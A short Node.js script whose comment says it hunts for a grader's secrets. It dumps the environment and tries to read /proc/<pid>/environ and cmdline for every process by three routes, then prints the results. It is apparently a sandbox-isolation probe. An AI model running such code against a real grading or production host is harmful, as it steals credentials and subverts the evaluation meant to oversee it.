// Looks for the grader's secrets: its own environment, every /proc/<pid>/environ and cmdline, by
// the fs API, the module loader and dynamic import.
const fs = require("node:fs");

async function attempt(run) {
  try {
    return `ok:${await run()}`;
  } catch (error) {
    return `err:${error.code ?? error.message}`;
  }
}

async function main() {
  const found = { env: process.env, files: {} };
  let pids = [];
  try {
    pids = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  } catch (error) {
    found.listProc = `err:${error.code}`;
  }
  for (const pid of ["1", "self", ...pids]) {
    for (const file of ["environ", "cmdline"]) {
      const target = `/proc/${pid}/${file}`;
      found.files[target] = await attempt(() => fs.readFileSync(target, "utf8"));
    }
  }
  found.files["require /proc/1/environ"] = await attempt(() => JSON.stringify(require("/proc/1/environ")));
  found.files["import /proc/self/environ"] = await attempt(async () =>
    JSON.stringify(await import("/proc/self/environ")),
  );
  console.log(JSON.stringify(found));
}

main();
